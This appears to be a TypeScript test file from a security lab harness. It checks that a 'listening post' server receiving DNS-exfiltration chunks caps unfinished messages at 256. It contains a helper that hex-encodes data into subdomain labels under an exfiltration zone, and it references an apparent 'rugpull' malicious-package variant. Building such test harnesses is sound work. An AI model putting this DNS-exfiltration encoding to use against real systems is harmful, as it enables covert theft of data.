// The listening post keeps at most 256 unfinished DNS-exfil messages: junk first chunks that never complete
// cannot grow the `up` process without end. The oldest unfinished message goes; a recent one still completes.
import { Resolver } from 'node:dns/promises';
import { Registry } from 'prom-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { silentLogger } from '../../src/core/log.ts';
import { EXFIL_ZONE } from '../currency-converter/rugpull/variants.ts';
import { startListeningPost, type ListeningPost } from './listening-post.ts';

describe('the listening post’s unfinished DNS messages', () => {
  let post: ListeningPost;
  let resolver: Resolver;
  beforeAll(async () => {
    post = await startListeningPost({ metrics: new Registry(), log: silentLogger });
    resolver = new Resolver({ timeout: 2000, tries: 3 });
    resolver.setServers([post.dns]);
  });
  afterAll(async () => {
    resolver.cancel();
    await post.close();
  });

  const chunk = (seq: number, id: string): string => `${Buffer.from(`part ${seq} of ${id}`).toString('hex')}.${seq}-2-${id}.${EXFIL_ZONE}`;

  it('forgets the oldest of 300 unfinished messages, and still rebuilds a recent one', async () => {
    for (let i = 0; i < 300; i++) await resolver.resolve4(chunk(0, `m${i}`));
    const before = post.received().dns;
    await resolver.resolve4(chunk(1, 'm0'));
    expect(post.received().dns).toBe(before);
    await resolver.resolve4(chunk(1, 'm299'));
    expect(post.received().dns).toBe(before + 1);
  });
});
